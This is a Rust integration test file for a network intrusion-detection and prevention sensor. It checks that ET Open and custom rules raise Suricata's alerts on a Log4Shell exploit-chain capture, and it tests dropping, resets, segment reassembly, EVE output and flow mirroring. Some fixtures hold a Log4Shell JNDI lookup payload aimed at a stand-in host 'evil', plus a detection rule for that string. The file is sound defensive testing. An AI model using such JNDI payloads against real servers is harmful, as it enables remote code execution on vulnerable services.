//! The detection engine on the real binary: ET Open's Log4Shell rules on the shared
//! exploit-chain capture raise the alerts Suricata 7 raises (sids, addresses, ports); in
//! prevention the exploit flow is dropped from the exploit packet on while everything else
//! is forwarded in order; a content split across two TCP segments matches (plain, VLAN,
//! IPv6); EVE records carry Suricata's fields with the capture's timestamps.

// A test fails by panicking: unwrap, expect and panic are its assertions.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeSet;
use std::net::IpAddr;
use std::path::{Path, PathBuf};

use etherparse::{NetSlice, SlicedPacket, TransportSlice};
use testkit::conversation::TcpConversation;
use testkit::files::{eve_events, rules_file, shared};
use testkit::pcap;
use testkit::process::{replay, Finished};

const SENSOR: &str = env!("CARGO_BIN_EXE_sensor");

/// The enabled ET Open rules with sids in `range`, optionally with `alert` turned into `drop`.
fn et_rules(dir: &Path, range: std::ops::RangeInclusive<u32>, drop: bool) -> PathBuf {
    let mut out = String::new();
    for entry in std::fs::read_dir(shared("et-open")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "rules") {
            continue;
        }
        for line in std::fs::read_to_string(&path).unwrap().lines() {
            let Some(sid) = line
                .split("sid:")
                .nth(1)
                .and_then(|s| s.split(';').next())
                .and_then(|s| s.trim().parse::<u32>().ok())
            else {
                continue;
            };
            if line.starts_with("alert ") && range.contains(&sid) {
                let line = if drop {
                    line.replacen("alert ", "drop ", 1)
                } else {
                    line.to_owned()
                };
                out.push_str(&line);
                out.push('\n');
            }
        }
    }
    let path = dir.join("selected.rules");
    std::fs::write(&path, out).unwrap();
    path
}

fn alerts(eve: &Path) -> Vec<serde_json::Value> {
    eve_events(eve, "alert")
}

fn replay_rules(input: &Path, mode: &str, out: &Path, rules: &Path, eve: &Path) -> Finished {
    replay(
        SENSOR,
        input,
        mode,
        out,
        &[
            "--rules",
            rules.to_str().unwrap(),
            "--eve",
            eve.to_str().unwrap(),
        ],
    )
}

/// Writes `frames` to a capture in `dir`, replays it in detection mode with `rules`, and
/// returns the EVE file's path.
fn detect_frames(dir: &Path, frames: &[Vec<u8>], rules: &Path) -> PathBuf {
    let input = dir.join("in.pcap");
    pcap::write(&input, frames);
    let eve = dir.join("eve.json");
    replay_rules(&input, "detection", &dir.join("out.pcap"), rules, &eve);
    eve
}

/// (sid, source address, source port, destination address, destination port; ports 0
/// where there are none, as for ICMP).
type AlertKey = (u64, String, u64, String, u64);

/// Every alert in an EVE file as an [`AlertKey`], sorted.
fn alert_keys(eve: &Path) -> Vec<AlertKey> {
    let mut keys: Vec<AlertKey> = alerts(eve)
        .iter()
        .map(|a| {
            (
                a["alert"]["signature_id"].as_u64().unwrap(),
                a["src_ip"].as_str().unwrap().to_owned(),
                a["src_port"].as_u64().unwrap_or(0),
                a["dest_ip"].as_str().unwrap().to_owned(),
                a["dest_port"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    keys.sort();
    keys
}

type Endpoint = (IpAddr, u16);

fn endpoints(frame: &[u8]) -> Option<(Endpoint, Endpoint)> {
    let s = SlicedPacket::from_ethernet(frame).ok()?;
    let (src, dst): (IpAddr, IpAddr) = match s.net? {
        NetSlice::Ipv4(v4) => (
            v4.header().source_addr().into(),
            v4.header().destination_addr().into(),
        ),
        NetSlice::Ipv6(v6) => (
            v6.header().source_addr().into(),
            v6.header().destination_addr().into(),
        ),
    };
    match s.transport? {
        TransportSlice::Tcp(t) => Some(((src, t.source_port()), (dst, t.destination_port()))),
        TransportSlice::Udp(u) => Some(((src, u.source_port()), (dst, u.destination_port()))),
        _ => None,
    }
}

const CLIENT: &str = "172.16.238.1";
const VICTIM: &str = "172.16.238.10";

#[test]
fn log4shell_rules_raise_the_alerts_suricata_raises() {
    let dir = tempfile::tempdir().unwrap();
    let rules = et_rules(dir.path(), 2034647..=2034811, false);
    let eve = dir.path().join("eve.json");
    let out = dir.path().join("out.pcap");
    let input = shared("pcaps/log4shell-exploit-chain.pcap");
    replay_rules(&input, "detection", &out, &rules, &eve);
    let got: BTreeSet<AlertKey> = alert_keys(&eve).into_iter().collect();
    // Suricata 7.0 (`suricata -k none -r log4shell-exploit-chain.pcap -S <same rules>`)
    // raises exactly these two for this sid range, once each.
    let want: BTreeSet<_> = [2034659u64, 2034781]
        .into_iter()
        .map(|sid| (sid, CLIENT.to_owned(), 1984, VICTIM.to_owned(), 8080))
        .collect();
    assert_eq!(got, want);
    assert_eq!(alerts(&eve).len(), 2);
}

#[test]
fn all_of_et_open_on_log4shell_raises_exactly_suricatas_alerts() {
    let dir = tempfile::tempdir().unwrap();
    let eve = dir.path().join("eve.json");
    let input = shared("pcaps/log4shell-exploit-chain.pcap");
    let et = shared("et-open");
    replay_rules(&input, "detection", &dir.path().join("out.pcap"), &et, &eve);
    let got = alert_keys(&eve);
    // Suricata 7.0 with every ET Open rule (`suricata -k none -r ... -S all.rules`):
    // the two exploit-request alerts and the Python server banner on both fetches.
    let server = "172.16.238.11".to_owned();
    let want = vec![
        (2034636, server.clone(), 80, VICTIM.to_owned(), 48444),
        (2034636, server, 80, VICTIM.to_owned(), 48534),
        (2034659, CLIENT.to_owned(), 1984, VICTIM.to_owned(), 8080),
        (2034781, CLIENT.to_owned(), 1984, VICTIM.to_owned(), 8080),
    ];
    assert_eq!(got, want);
}

#[test]
fn prevention_drops_the_exploit_flow_and_forwards_the_rest_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let rules = et_rules(dir.path(), 2034647..=2034811, true);
    let eve = dir.path().join("eve.json");
    let out = dir.path().join("out.pcap");
    let input = shared("pcaps/log4shell-exploit-chain.pcap");
    let run = replay_rules(&input, "prevention", &out, &rules, &eve);
    let frames = pcap::read(&input);
    let first_alert = alerts(&eve)
        .iter()
        .map(|a| a["pcap_cnt"].as_u64().unwrap() as usize)
        .min()
        .expect("an alert");
    assert!(alerts(&eve)
        .iter()
        .all(|a| a["alert"]["action"] == "blocked"));
    let exploit: (IpAddr, u16) = (VICTIM.parse().unwrap(), 8080);
    let attacker: (IpAddr, u16) = (CLIENT.parse().unwrap(), 1984);
    let in_flow = |f: &[u8]| {
        endpoints(f)
            .is_some_and(|(a, b)| (a, b) == (attacker, exploit) || (a, b) == (exploit, attacker))
    };
    let expected: Vec<&Vec<u8>> = frames
        .iter()
        .enumerate()
        .filter(|(i, f)| !(i + 1 >= first_alert && in_flow(f)))
        .map(|(_, f)| f)
        .collect();
    let forwarded = pcap::read(&out);
    assert!(
        expected.len() < frames.len(),
        "the exploit flow had packets to drop"
    );
    assert_eq!(forwarded.len(), expected.len());
    assert!(
        forwarded.iter().zip(&expected).all(|(a, b)| a == *b),
        "forwarded stream differs"
    );
    let stats = run.final_stats();
    assert_eq!(
        stats["engine"]["verdict_drops"].as_u64().unwrap() as usize,
        frames.len() - expected.len()
    );
}

/// A TCP connection (handshake, then `segments` from client to server, each acknowledged)
/// as frames.
fn tcp_conversation(vlan: Option<u16>, v6: bool, segments: &[&[u8]]) -> Vec<Vec<u8>> {
    let (c, s) = if v6 {
        ("[fd00::1]:40000", "[fd00::2]:80")
    } else {
        ("10.1.1.1:40000", "10.2.2.2:80")
    };
    let mut conv = TcpConversation::open(c.parse().unwrap(), s.parse().unwrap(), vlan);
    for seg in segments {
        conv = conv.send(true, seg);
    }
    conv.frames()
}

#[test]
fn content_split_across_two_segments_matches_plain_vlan_and_ipv6() {
    let dir = tempfile::tempdir().unwrap();
    let rules = rules_file(dir.path(), "split", "alert tcp any any -> any 80 (msg:\"split jndi\"; flow:established,to_server; content:\"${jndi:ldap://\"; nocase; classtype:attempted-admin; sid:1000001; rev:1;)\n");
    for (vlan, v6) in [
        (None, false),
        (Some(42), false),
        (None, true),
        (Some(7), true),
    ] {
        let frames = tcp_conversation(
            vlan,
            v6,
            &[b"GET /?x=${jn", b"di:LDAP://evil/a HTTP/1.1\r\n\r\n"],
        );
        let a = alerts(&detect_frames(dir.path(), &frames, &rules));
        assert_eq!(a.len(), 1, "vlan {vlan:?} v6 {v6}: {a:?}");
        assert_eq!(a[0]["alert"]["signature_id"], 1000001);
        assert_eq!(
            a[0]["pcap_cnt"], 6,
            "the alert is on the segment that completes the match"
        );

        // Each half alone never matches.
        let halves = tcp_conversation(vlan, v6, &[b"GET /?x=${jn"]);
        assert!(alerts(&detect_frames(dir.path(), &halves, &rules)).is_empty());
    }
}

#[test]
fn eve_alert_records_use_suricata_fields_and_capture_time() {
    let dir = tempfile::tempdir().unwrap();
    let rules = rules_file(dir.path(), "http", "alert http any any -> any any (msg:\"UA curl\"; flow:to_server; http.user_agent; content:\"curl/\"; startswith; http.host; content:\"example.com\"; classtype:policy-violation; sid:1000002; rev:3;)\n");
    let frames = tcp_conversation(
        None,
        false,
        &[b"GET /p HTTP/1.1\r\nHost: Example.com:8080\r\nUser-Agent: curl/8.0\r\n\r\n"],
    );
    let eve = detect_frames(dir.path(), &frames, &rules);
    let text = std::fs::read_to_string(&eve).unwrap();
    let line = text.lines().next().expect("one alert");
    let keys: Vec<&str> = [
        "\"timestamp\"",
        "\"flow_id\"",
        "\"pcap_cnt\"",
        "\"in_iface\"",
        "\"event_type\"",
        "\"src_ip\"",
        "\"src_port\"",
        "\"dest_ip\"",
        "\"dest_port\"",
        "\"proto\"",
        "\"app_proto\"",
        "\"alert\":{",
        "\"http\":{",
    ]
    .into_iter()
    .collect();
    let positions: Vec<usize> = keys
        .iter()
        .map(|k| {
            line.find(k)
                .unwrap_or_else(|| panic!("{k} missing: {line}"))
        })
        .collect();
    assert!(
        positions.windows(2).all(|w| w[0] < w[1]),
        "field order: {line}"
    );
    let a: serde_json::Value = serde_json::from_str(line).unwrap();
    // testkit::pcap::write stamps frame i at 1_700_000_000 s + i us.
    assert_eq!(a["timestamp"], "2023-11-14T22:13:20.000003+0000");
    assert_eq!(a["pcap_cnt"], 4);
    assert_eq!(a["in_iface"], "net_pcap_in");
    assert_eq!(a["proto"], "TCP");
    assert_eq!(a["app_proto"], "http");
    assert_eq!(a["alert"]["action"], "allowed");
    assert_eq!(a["alert"]["gid"], 1);
    assert_eq!(a["alert"]["rev"], 3);
    assert_eq!(a["alert"]["signature"], "UA curl");
    assert_eq!(
        a["alert"]["category"],
        "Potential Corporate Privacy Violation"
    );
    assert_eq!(a["alert"]["severity"], 1);
    assert_eq!(a["http"]["hostname"], "example.com");
    assert_eq!(a["http"]["url"], "/p");
    assert_eq!(a["http"]["http_user_agent"], "curl/8.0");
    assert_eq!(a["http"]["http_method"], "GET");
}

#[test]
fn reject_resets_both_ends_in_prevention() {
    let dir = tempfile::tempdir().unwrap();
    let rules = rules_file(dir.path(), "reject", "reject tcp any any -> any 80 (msg:\"reject evil\"; flow:to_server; content:\"evil\"; sid:1000003; rev:1;)\n");
    let frames = tcp_conversation(None, false, &[b"GET /evil HTTP/1.1\r\n\r\n"]);
    let input = dir.path().join("reject.pcap");
    pcap::write(&input, &frames);
    let (out, reply) = (dir.path().join("out.pcap"), dir.path().join("reply.pcap"));
    let run = replay(
        SENSOR,
        &input,
        "prevention",
        &out,
        &[
            "--rules",
            rules.to_str().unwrap(),
            "--reply-out",
            reply.to_str().unwrap(),
        ],
    );
    let rst = |frame: &[u8]| {
        let s = SlicedPacket::from_ethernet(frame).unwrap();
        let Some(TransportSlice::Tcp(t)) = s.transport else {
            panic!("not TCP")
        };
        assert!(t.rst(), "not a reset");
        (t.source_port(), t.destination_port(), t.sequence_number())
    };
    // Handshake forwarded; the data segment and the rest of the flow dropped; a reset
    // toward the server takes the data's place.
    let forwarded = pcap::read(&out);
    assert_eq!(forwarded.len(), 4, "{forwarded:?}");
    assert_eq!(&forwarded[..3], &frames[..3]);
    assert_eq!(rst(&forwarded[3]), (40000, 80, 101 + 22));
    // The client gets a reset from the server's side, sequenced at what it acknowledged.
    let replies = pcap::read(&reply);
    assert_eq!(replies.len(), 1);
    assert_eq!(rst(&replies[0]), (80, 40000, 501));
    assert_eq!(run.final_stats()["engine"]["rejects_sent"], 2);
}

#[test]
fn every_packet_of_an_alerted_flow_is_mirrored_from_the_alert_on() {
    use testkit::process::{test_eal_args, Running};
    let dir = tempfile::tempdir().unwrap();
    let rules = rules_file(
        dir.path(),
        "mirror",
        "alert tcp any any -> any 80 (msg:\"watch\"; content:\"evil\"; sid:1000004;)\n",
    );
    let mut frames = tcp_conversation(None, false, &[b"GET /evil HTTP/1.1\r\n\r\n", b"more"]);
    let other = tcp_conversation(Some(5), true, &[b"GET /fine HTTP/1.1\r\n\r\n"]);
    frames.extend(other);
    let (a_in, empty) = (dir.path().join("a.pcap"), dir.path().join("empty.pcap"));
    pcap::write(&a_in, &frames);
    pcap::write(&empty, &[]);
    let (b_out, mirror) = (
        dir.path().join("b_out.pcap"),
        dir.path().join("mirror.pcap"),
    );
    let eal = test_eal_args(&[
        format!(
            "net_pcap_a,rx_pcap={},tx_pcap={}",
            a_in.display(),
            dir.path().join("a_out.pcap").display()
        ),
        format!(
            "net_pcap_b,rx_pcap={},tx_pcap={}",
            empty.display(),
            b_out.display()
        ),
        format!(
            "net_pcap_m,rx_pcap={},tx_pcap={}",
            empty.display(),
            mirror.display()
        ),
    ]);
    let config = dir.path().join("sensor.toml");
    std::fs::write(
        &config,
        format!(
            "mode = \"prevention\"\nstats_interval_secs = 0.05\n[eal]\nargs = {eal}\n[ports]\nbridge = [[\"net_pcap_a\", \"net_pcap_b\"]]\nmirror = \"net_pcap_m\"\n[detect]\nrules = [{:?}]\nmirror_alerted_flows = true\n[eve]\npath = {:?}\n",
            rules.to_str().unwrap(),
            dir.path().join("eve.json").to_str().unwrap()
        ),
    )
    .unwrap();
    let mut sensor = Running::start(SENSOR, &["run", "--config", config.to_str().unwrap()]);
    let n = frames.len() as u64;
    sensor.wait_for_stats(std::time::Duration::from_secs(30), |s| {
        s["ports"][0]["rx"] == n
    });
    let done = sensor.terminate();
    assert_eq!(done.code, Some(0), "{}", done.stderr);
    // All forwarded; the alerting segment (frame 4) and the rest of its flow (frames 5-7)
    // mirrored; the other flow not at all.
    assert_eq!(pcap::read(&b_out), frames);
    assert_eq!(pcap::read(&mirror), frames[3..7].to_vec());
    assert_eq!(done.final_stats()["mempool"]["in_use"], 0);
    // The EVE file has the alert and the periodic stats events.
    let events: Vec<serde_json::Value> = std::fs::read_to_string(dir.path().join("eve.json"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        events.iter().filter(|e| e["event_type"] == "alert").count(),
        1
    );
    let stats: Vec<_> = events
        .iter()
        .filter(|e| e["event_type"] == "stats")
        .collect();
    assert!(!stats.is_empty(), "no stats events");
    assert!(stats[0]["stats"]["ports"].is_array());
}

#[test]
fn shipped_rules_catch_the_log4shell_chain() {
    let dir = tempfile::tempdir().unwrap();
    let eve = dir.path().join("eve.json");
    let rules = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../rules");
    replay_rules(
        &shared("pcaps/log4shell-exploit-chain.pcap"),
        "detection",
        &dir.path().join("out.pcap"),
        &rules,
        &eve,
    );
    let sids: BTreeSet<u64> = alert_keys(&eve).into_iter().map(|k| k.0).collect();
    // The URL-encoded JNDI exploit, the LDAP callback, the class fetch.
    assert_eq!(sids, BTreeSet::from([9000003, 9000010, 9000011]));
}

/// The keyword capture with `scripts/compare.rules` raises what Suricata 7.0.10 raises on
/// it (`scripts/suricata-compare-engine.sh`), by sid, source and count, with two
/// deliberate differences written in the README: the flowbits exchange is counted as
/// Suricata's inline stream mode counts it, each segment inspected as it comes (its IDS
/// mode inspects the whole exchange once, at the close: sid 21 once, 22 never; its inline
/// mode matches LOGOUT again when it rescans the stream for FLIP: sid 23 twice). Data
/// sent out of order is reassembled as Suricata does it (sid 30).
#[test]
fn the_keyword_capture_raises_the_alerts_suricata_7_raises() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("keywords.pcap");
    pcap::write_timed(&input, &testkit::keyword_capture::frames());
    let rules = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../scripts/compare.rules");
    let eve = dir.path().join("eve.json");
    replay_rules(
        &input,
        "detection",
        &dir.path().join("out.pcap"),
        &rules,
        &eve,
    );
    let mut got = std::collections::BTreeMap::new();
    for (sid, src, ..) in alert_keys(&eve) {
        let src: IpAddr = src.parse().unwrap();
        *got.entry((sid, src.to_string())).or_insert(0) += 1;
    }
    let split_clients = ["10.1.1.1", "10.1.1.2", "fd00::1", "fd00::3"];
    let mut want = std::collections::BTreeMap::new();
    for sid in [1, 4, 5, 12] {
        for c in split_clients {
            want.insert((sid, c.to_string()), 1);
        }
    }
    for (sid, src, n) in [
        (6, "fd00::1", 1),
        (6, "fd00::3", 1),
        (6, "fd00::2", 2),
        (6, "fd00::70", 1),
        (10, "10.1.1.10", 1),
        (11, "10.1.1.10", 1),
        (12, "10.1.1.10", 1),
        (13, "10.1.1.10", 1),
        (15, "10.1.1.10", 1),
        (16, "10.1.1.10", 1),
        (17, "10.1.1.10", 1),
        (18, "10.2.2.2", 1),
        (19, "10.2.2.2", 1),
        (21, "10.2.2.3", 2),
        (22, "10.2.2.3", 1),
        (23, "10.1.1.20", 1),
        (30, "10.1.1.30", 1),
        (50, "10.1.1.50", 1),
        (51, "10.1.1.50", 1),
        (52, "10.1.1.50", 1),
        (53, "10.2.2.2", 1),
        (54, "10.1.1.50", 1),
        (55, "10.1.1.50", 1),
        (56, "10.1.1.50", 2),
        (60, "10.1.1.70", 1),
        (60, "fd00::70", 1),
        (61, "10.1.1.80", 1),
        (70, "10.1.1.60", 3),
        (71, "10.1.1.60", 2),
        (72, "10.1.1.60", 1),
        (73, "10.1.1.60", 4),
        (74, "10.1.1.60", 7),
    ] {
        want.insert((sid, src.to_string()), n);
    }
    assert_eq!(got, want);
}
